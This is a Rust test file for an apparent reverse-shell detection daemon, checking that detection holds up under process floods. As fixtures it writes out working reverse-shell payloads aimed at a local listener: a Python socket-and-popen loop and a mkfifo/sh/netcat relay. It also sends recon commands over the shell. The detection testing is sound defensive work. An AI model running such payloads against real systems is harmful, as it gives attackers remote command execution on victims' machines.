//! A flood of what nobody watches, to hide what is watched.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::programs::program;
use crate::common::relayed::is_on;
use crate::common::victim::Victim;
use crate::{alone, found, is_of, on_socket, require, shell};

/// Four storms of /bin/true at once, as long as this lives.
fn storms() -> Vec<Victim> {
    let one = |_| Victim::start(program("storm"), &["1000000", "2", "-", "/bin/true"]);
    (0..4).map(one).collect()
}

#[test]
fn a_reverse_shell_in_a_flood() {
    require!("gcc");
    let _alone = alone();
    let daemon = Daemon::start("");
    let flood = storms();
    let mut slowest = Duration::ZERO;
    for _ in 0..20 {
        let port = Listener::tcp().swallow();
        let began = Instant::now();
        let (_victim, own) = on_socket(port, shell("read line"));
        let record = found(&daemon, own);
        assert_eq!(record.row(), 1, "{}", record.brief());
        slowest = slowest.max(began.elapsed());
    }
    assert!(slowest < Duration::from_secs(2), "the slowest of 20 took {slowest:?}");
    eprintln!("the slowest of 20 shells in a flood: {slowest:?}");
    drop(flood);
    daemon.stop();
}

/// A loop of popen: each of its commands lives for a moment, on a pipe. Some are lost, and counted; two are enough.
#[test]
fn a_popen_loop_in_a_flood() {
    require!("gcc", "/usr/bin/python3");
    let _alone = alone();
    let daemon = Daemon::start("");
    let flood = storms();
    let attacker = Listener::tcp();
    let port = attacker.port();
    let text = format!(
        "import socket,os\ns=socket.create_connection(('127.0.0.1',{port})); f=s.makefile('r')\n\
         for l in f: s.sendall(os.popen(l).read().encode())"
    );
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", &text]).stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    let began = Instant::now();
    let mut rounds = 0;
    let seen = |record: &crate::common::finding::Finding| is_on(record, &[port]) && record.row() == 6;
    while !daemon.records().iter().any(seen) {
        assert!(began.elapsed() < Duration::from_secs(30), "{rounds} rounds: {}", daemon.status()["losses"]);
        for (line, answer) in [("id -u", "0\n"), ("uname -s", "Linux\n"), ("cat /etc/hostname", "\n")] {
            session.send(&format!("{line}\n"));
            session.hear(answer);
        }
        rounds += 1;
    }
    eprintln!("a popen loop in a flood: found after {rounds} rounds of three, {:?}", began.elapsed());
    drop(flood);
    drop(victim);
    daemon.wait_for("its end", |record| is_of(record, port) && record.state() == "INACTIVE");
    daemon.stop();
}

/// A flood on the very channels that the shell is on: nobody's search may keep the others waiting for ever.
#[test]
fn a_relayed_shell_in_a_flood_on_pipes() {
    require!("gcc", "bash", "nc.openbsd");
    let _alone = alone();
    let daemon = Daemon::start("");
    let directory = tempfile::tempdir().unwrap();
    let storm = program("storm").display().to_string();
    let flood = format!("cat </dev/zero | {storm} 1000000 2 - /bin/sh -c : | cat >/dev/null");
    let flood = Victim::start("/bin/bash", &["-c", &flood]);
    let attacker = Listener::tcp();
    let line = format!(
        "cd {}; mkfifo f; sh <f 2>&1 | nc.openbsd 127.0.0.1 {} >f",
        directory.path().display(),
        attacker.port()
    );
    let began = Instant::now();
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    session.shell_pid();
    let record =
        daemon.wait_for("the relayed shell", |record| is_on(record, &[attacker.port()]) && record.row() == 4);
    eprintln!("a relayed shell in a flood of shells on pipes: {:?}", began.elapsed());
    assert!(record.ran(&["sh"]), "{}", record.brief());
    drop((flood, victim, session));
    daemon.stop();
}
